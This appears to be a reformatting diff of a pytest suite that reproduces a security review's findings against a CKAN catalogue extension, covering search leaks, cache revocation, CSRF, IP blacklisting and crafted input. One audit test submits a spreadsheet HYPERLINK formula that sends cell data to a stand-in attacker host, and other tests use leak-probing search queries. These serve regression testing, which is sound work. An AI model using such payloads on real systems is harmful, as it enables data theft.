@@ -1,5 +1,6 @@
 """The reproductions of issue 10's CKAN findings (1–8), each as the API call
 or page request the review made, answering nothing withheld."""
+
 import csv
 import datetime as dt
 import io
@@ -15,7 +16,6 @@ from ckan.tests.helpers import call_action
 
 # name -> (fields, anonymous may see the dataset, anonymous may see its files)
 from test_disclosure import CASES, FUTURE
-
 
 pytestmark = [
     pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index"),
@@ -41,10 +41,15 @@ def file_description(name):
 
 @pytest.fixture
 def catalogue(create_dataset):
-    return {name: create_dataset(name=name, title_translated={"zh-Hans": f"数据集 {name}", "en": f"Dataset {name}"},
-                                 resources=[{"url": url(name), "name": file_name(name),
-                                             "description": file_description(name)}], **fields)
-            for name, (fields, _, _) in CASES.items()}
+    return {
+        name: create_dataset(
+            name=name,
+            title_translated={"zh-Hans": f"数据集 {name}", "en": f"Dataset {name}"},
+            resources=[{"url": url(name), "name": file_name(name), "description": file_description(name)}],
+            **fields,
+        )
+        for name, (fields, _, _) in CASES.items()
+    }
 
 
 def withheld_in(text) -> list:
@@ -79,8 +84,9 @@ def test_resource_search_lists_only_disclosed_files():
 
 
 @pytest.mark.usefixtures("catalogue")
-@pytest.mark.parametrize("action, data", [("resource_search", {"query": "url:"}),
-                                          ("package_search", {"q": "*:*", "fl": "*"})])
+@pytest.mark.parametrize(
+    "action, data", [("resource_search", {"query": "url:"}), ("package_search", {"q": "*:*", "fl": "*"})]
+)
 def test_core_searches_called_directly_refuse_outsiders(action, data, sysadmin):
     """Core calls its own functions directly at times, past every chained
     action (finding 4); the chained auth refuses such a call for outsiders
@@ -107,9 +113,16 @@ def test_package_search_refuses_facets_on_file_fields(facet):
 
 
 @pytest.mark.usefixtures("catalogue")
-@pytest.mark.parametrize("param, value", [("q", "res_url:*conditional*"), ("fq", "res_name:closeddatafilename"),
-                                          ("q", "urls:*token*"), ("sort", "res_url asc"),
-                                          ("q", "extras_secrecy_level:confidential")])
+@pytest.mark.parametrize(
+    "param, value",
+    [
+        ("q", "res_url:*conditional*"),
+        ("fq", "res_name:closeddatafilename"),
+        ("q", "urls:*token*"),
+        ("sort", "res_url asc"),
+        ("q", "extras_secrecy_level:confidential"),
+    ],
+)
 def test_package_search_refuses_queries_on_file_fields(param, value):
     with pytest.raises(ValidationError):
         call_action("package_search", context=dict(ANONYMOUS), **{param: value})
@@ -127,15 +140,25 @@ def test_withheld_file_names_are_not_searchable(name):
 
 @pytest.mark.usefixtures("catalogue")
 def test_allowed_facets_still_work():
-    found = call_action("package_search", context=dict(ANONYMOUS),
-                        **{"facet.field": json.dumps(["organization", "res_format", "open_attribute"])})
+    found = call_action(
+        "package_search",
+        context=dict(ANONYMOUS),
+        **{"facet.field": json.dumps(["organization", "res_format", "open_attribute"])},
+    )
     assert set(found["facets"]) == {"organization", "res_format", "open_attribute"}
 
 
 # -- finding 3: fl, aliases and transformers ------------------------------------------
 @pytest.mark.usefixtures("catalogue")
-@pytest.mark.parametrize("fl", ["id,name,res_url,extras_secrecy,extras_open_attribute", "name,res_url",
-                                "name res_url data_dict validated_data_dict", "*"])
+@pytest.mark.parametrize(
+    "fl",
+    [
+        "id,name,res_url,extras_secrecy,extras_open_attribute",
+        "name,res_url",
+        "name res_url data_dict validated_data_dict",
+        "*",
+    ],
+)
 def test_fl_answers_are_redacted_by_the_stored_policy(fl):
     found = call_action("package_search", context=dict(ANONYMOUS), q="*:*", rows=100, fl=fl)
     assert withheld_in(as_text(found)) == []
@@ -145,10 +168,17 @@ def test_fl_answers_are_redacted_by_the_stored_policy(fl):
 
 
 @pytest.mark.usefixtures("catalogue")
-@pytest.mark.parametrize("fl", ["name,res_url,open_attribute:[value v=unconditional]",
-                                "name,res_url,secrecy:[value v=unclassified]",
-                                "name,res_url,id:[value v=00000000-0000-0000-0000-000000000000]",
-                                "name,res_url,owner_org:[value v=x]", "name,u:res_url", "name,sum(1,1)"])
+@pytest.mark.parametrize(
+    "fl",
+    [
+        "name,res_url,open_attribute:[value v=unconditional]",
+        "name,res_url,secrecy:[value v=unclassified]",
+        "name,res_url,id:[value v=00000000-0000-0000-0000-000000000000]",
+        "name,res_url,owner_org:[value v=x]",
+        "name,u:res_url",
+        "name,sum(1,1)",
+    ],
+)
 def test_fl_aliases_and_transformers_are_refused(fl):
     with pytest.raises(ValidationError):
         call_action("package_search", context=dict(ANONYMOUS), q="*:*", fl=fl)
@@ -193,8 +223,9 @@ def test_followee_lists_give_no_withheld_file():
 # -- finding 7: declassification, history, lists, cache ----------------------------------
 def test_declassifying_clears_the_classification_detail(catalogue, sysadmin):
     classified = catalogue["classified-data"]
-    fields = dict(classified, secrecy="unclassified", sharing_attribute="unconditional",
-                  open_attribute="unconditional")  # what the form sends: the hidden inputs too
+    fields = dict(
+        classified, secrecy="unclassified", sharing_attribute="unconditional", open_attribute="unconditional"
+    )  # what the form sends: the hidden inputs too
     saved = call_action("package_update", context={"user": sysadmin["name"]}, **fields)
     for name in ("secrecy_level", "secrecy_period_years", "declassify_date", "declassify_condition"):
         assert not saved.get(name), name
@@ -211,16 +242,17 @@ def test_leftover_classification_detail_is_never_shown():
     package.extras["declassify_condition"] = "解密条件-leftover"
     model.repo.commit()
     search.rebuild(package.id)
-    for answer in (call_action("package_search", context=dict(ANONYMOUS), q="*:*", fl="*"),
-                   call_action("package_search", context=dict(ANONYMOUS), q="*:*"),
-                   call_action("current_package_list_with_resources", context=dict(ANONYMOUS))):
+    for answer in (
+        call_action("package_search", context=dict(ANONYMOUS), q="*:*", fl="*"),
+        call_action("package_search", context=dict(ANONYMOUS), q="*:*"),
+        call_action("current_package_list_with_resources", context=dict(ANONYMOUS)),
+    ):
         assert "解密条件-leftover" not in as_text(answer)
 
 
 def test_history_forgets_files_withheld_later(catalogue, sysadmin):
     opened = catalogue["open-data"]
-    call_action("package_patch", context={"user": sysadmin["name"]}, id=opened["id"],
-                **CASES["conditional-data"][0])
+    call_action("package_patch", context={"user": sysadmin["name"]}, id=opened["id"], **CASES["conditional-data"][0])
     activities = call_action("package_activity_list", context=dict(ANONYMOUS), id="open-data")
     assert len(activities) == 2
     for activity in activities:
@@ -245,10 +277,22 @@ def test_package_and_member_lists_leave_out_classified(responsible_unit):
 def test_rdf_page_cache_follows_the_grant(app, catalogue, sysadmin):
     applicant = _user()
     token = {"Authorization": factories.APIToken(user=applicant["name"])["token"]}
-    request = call_action("sdm_access_request_create", context=_as(applicant), id="conditional-data",
-                          purpose="研究", intended_use="论文", applicant_unit="某大学")
-    call_action("sdm_access_request_decide", context={"user": sysadmin["name"]}, id=request["id"],
-                decision="approve", reason="符合条件", days=7)
+    request = call_action(
+        "sdm_access_request_create",
+        context=_as(applicant),
+        id="conditional-data",
+        purpose="研究",
+        intended_use="论文",
+        applicant_unit="某大学",
+    )
+    call_action(
+        "sdm_access_request_decide",
+        context={"user": sysadmin["name"]},
+        id=request["id"],
+        decision="approve",
+        reason="符合条件",
+        days=7,
+    )
     # ckanext-dcat's own profiles write what package_show gives the viewer
     page = f"/dataset/{catalogue['conditional-data']['id']}.ttl?profiles=euro_dcat_ap_2"
     assert url("conditional-data") in app.get(page, headers=token).body  # cached now
@@ -266,8 +310,12 @@ def test_rdf_page_cache_follows_membership(app, catalogue, responsible_unit, sys
     catalogue_page = "/catalog.ttl?profiles=euro_dcat_ap_2"
     assert url("closed-data") in app.get(page, headers=token).body  # members see the files; cached now
     assert url("closed-data") in app.get(catalogue_page, headers=token).body
-    call_action("organization_member_delete", context={"user": sysadmin["name"]}, id=responsible_unit["id"],
-                username=member["name"])
+    call_action(
+        "organization_member_delete",
+        context={"user": sysadmin["name"]},
+        id=responsible_unit["id"],
+        username=member["name"],
+    )
     assert url("closed-data") not in app.get(page, headers=token).body
     assert url("closed-data") not in app.get(catalogue_page, headers=token).body
 
@@ -275,8 +323,14 @@ def test_rdf_page_cache_follows_membership(app, catalogue, responsible_unit, sys
 # -- finding 8: audit, CSRF, blacklist, verify, lift-embargoes, revocation ---------------
 def test_audit_csv_cells_are_never_formulas(app, catalogue, sysadmin):
     applicant = _user()
-    call_action("sdm_access_request_create", context=_as(applicant), id="conditional-data",
-                purpose='=HYPERLINK("https://evil.example/?"&A1,"click")', intended_use="+1", applicant_unit="@unit")
+    call_action(
+        "sdm_access_request_create",
+        context=_as(applicant),
+        id="conditional-data",
+        purpose='=HYPERLINK("https://evil.example/?"&A1,"click")',
+        intended_use="+1",
+        applicant_unit="@unit",
+    )
     admin = {"Authorization": factories.APIToken(user=sysadmin["name"])["token"]}
     rows = list(csv.DictReader(io.StringIO(app.get("/ckan-admin/sdm/audit.csv", headers=admin).body)))
     details = [r["detail"] for r in rows if r["action"] == "access_request"]
@@ -298,7 +352,8 @@ def test_anonymous_requests_write_no_audit_rows(app, catalogue):
     app.get("/dataset/open-data/resource/made-up-id/download", headers=token, follow_redirects=False)
     rows = call_action("sdm_audit_list")
     assert [(r["user_name"], r["resource_id"], r["package_id"]) for r in rows] == [
-        (user["name"], open_resource, catalogue["open-data"]["id"])]
+        (user["name"], open_resource, catalogue["open-data"]["id"])
+    ]
 
 
 def _csrf_token(client, path) -> str:
@@ -311,17 +366,20 @@ def test_extension_forms_need_a_csrf_token(app, catalogue):
     password = "correct-horse-battery"
     user = factories.User(password=password)
     browser = app.test_client()  # one cookie jar, as a browser has
-    signed_in = browser.post("/user/login", data={"login": user["name"], "password": password,
-                                                  "_csrf_token": _csrf_token(browser, "/user/login")},
-                             follow_redirects=False)
+    signed_in = browser.post(
+        "/user/login",
+        data={"login": user["name"], "password": password, "_csrf_token": _csrf_token(browser, "/user/login")},
+        follow_redirects=False,
+    )
     assert signed_in.status_code in (302, 303)
     form = {"purpose": "研究", "intended_use": "论文", "applicant_unit": "某大学"}
     forged = browser.post("/dataset/conditional-data/access-request", data=form, follow_redirects=False)
     assert forged.status_code == 400
     assert call_action("sdm_access_request_list", context=_as(user)) == []
     token = _csrf_token(browser, "/dataset/conditional-data/access-request")
-    sent = browser.post("/dataset/conditional-data/access-request", data=dict(form, _csrf_token=token),
-                        follow_redirects=False)
+    sent = browser.post(
+        "/dataset/conditional-data/access-request", data=dict(form, _csrf_token=token), follow_redirects=False
+    )
     assert sent.status_code in (302, 303)
     assert len(call_action("sdm_access_request_list", context=_as(user))) == 1
 
@@ -333,21 +391,38 @@ def test_ipv4_mapped_ipv6_addresses_are_blacklisted(app, catalogue, sysadmin):
     user = _user()
     token = {"Authorization": factories.APIToken(user=user["name"])["token"]}
     for address in ("203.0.113.9", "::ffff:203.0.113.9", "::ffff:cb00:7109"):
-        assert app.get(path, headers=token, environ_overrides={"REMOTE_ADDR": address},
-                       follow_redirects=False).status_code == 403, address
-    assert app.get(path, headers=token, environ_overrides={"REMOTE_ADDR": "::ffff:198.51.100.1"},
-                   follow_redirects=False).status_code == 302
+        assert (
+            app.get(path, headers=token, environ_overrides={"REMOTE_ADDR": address}, follow_redirects=False).status_code
+            == 403
+        ), address
+    assert (
+        app.get(
+            path, headers=token, environ_overrides={"REMOTE_ADDR": "::ffff:198.51.100.1"}, follow_redirects=False
+        ).status_code
+        == 302
+    )
     # a mapped network on the list holds for the plain IPv4 address too
     call_action("sdm_blacklist_add", context={"user": sysadmin["name"]}, network="::ffff:192.0.2.0/120", reason="x")
-    assert app.get(path, headers=token, environ_overrides={"REMOTE_ADDR": "192.0.2.7"},
-                   follow_redirects=False).status_code == 403
+    assert (
+        app.get(path, headers=token, environ_overrides={"REMOTE_ADDR": "192.0.2.7"}, follow_redirects=False).status_code
+        == 403
+    )
 
 
-@pytest.mark.parametrize("data", [
-    {"certificate": "[]"}, {"certificate": "1"}, {"certificate": "[" * 100000 + "]" * 100000},
-    {"certificate": ["a"]}, {"certificate": {"number": ["x"]}}, {"certificate": {"number": {"a": 1}}},
-    {"number": ["x"]}, {"number": {"a": 1}}, {"certificate": {"number": "N1", "dataset_id": ["x"]}},
-])
+@pytest.mark.parametrize(
+    "data",
+    [
+        {"certificate": "[]"},
+        {"certificate": "1"},
+        {"certificate": "[" * 100000 + "]" * 100000},
+        {"certificate": ["a"]},
+        {"certificate": {"number": ["x"]}},
+        {"certificate": {"number": {"a": 1}}},
+        {"number": ["x"]},
+        {"number": {"a": 1}},
+        {"certificate": {"number": "N1", "dataset_id": ["x"]}},
+    ],
+)
 def test_submission_verify_answers_crafted_input_with_a_validation_error(with_plugins, clean_db, data):
     with pytest.raises((ValidationError, NotFound)):
         call_action("sdm_submission_verify", context=dict(ANONYMOUS), **data)
@@ -364,8 +439,14 @@ def test_lift_embargoes_goes_on_past_a_failing_dataset(cli, create_dataset):
     past = (dt.date.today() - dt.timedelta(days=1)).isoformat()
     names = ["due-a", "due-b", "due-c"]
     for name in names:
-        create_dataset(name=name, title_translated={"zh-Hans": name}, disclosure="deferred",
-                       deferral_reason="paper", embargo_until=FUTURE, resources=[{"url": url(name)}])
+        create_dataset(
+            name=name,
+            title_translated={"zh-Hans": name},
+            disclosure="deferred",
+            deferral_reason="paper",
+            embargo_until=FUTURE,
+            resources=[{"url": url(name)}],
+        )
         model.Package.get(name).extras["embargo_until"] = past
     # a stored value the schema refuses: saving this one fails
     model.Package.get("due-b").extras["open_attribute"] = "no-such-code"
@@ -381,10 +462,22 @@ def test_a_revoked_grant_withholds_the_files_at_once(catalogue, sysadmin, respon
     applicant, stranger = _user(), _user()
     editor = _user()
     call_action("organization_member_create", id=responsible_unit["id"], username=editor["name"], role="editor")
-    request = call_action("sdm_access_request_create", context=_as(applicant), id="conditional-data",
-                          purpose="研究", intended_use="论文", applicant_unit="某大学")
-    call_action("sdm_access_request_decide", context=_as(editor), id=request["id"],
-                decision="approve", reason="符合条件", days=30)
+    request = call_action(
+        "sdm_access_request_create",
+        context=_as(applicant),
+        id="conditional-data",
+        purpose="研究",
+        intended_use="论文",
+        applicant_unit="某大学",
+    )
+    call_action(
+        "sdm_access_request_decide",
+        context=_as(editor),
+        id=request["id"],
+        decision="approve",
+        reason="符合条件",
+        days=30,
+    )
     assert call_action("package_show", context=_as(applicant), id="conditional-data")["resources"]
     with pytest.raises(NotAuthorized):  # only the unit's editors and sysadmins
         call_action("sdm_access_request_revoke", context=_as(stranger), id=request["id"], reason="x")
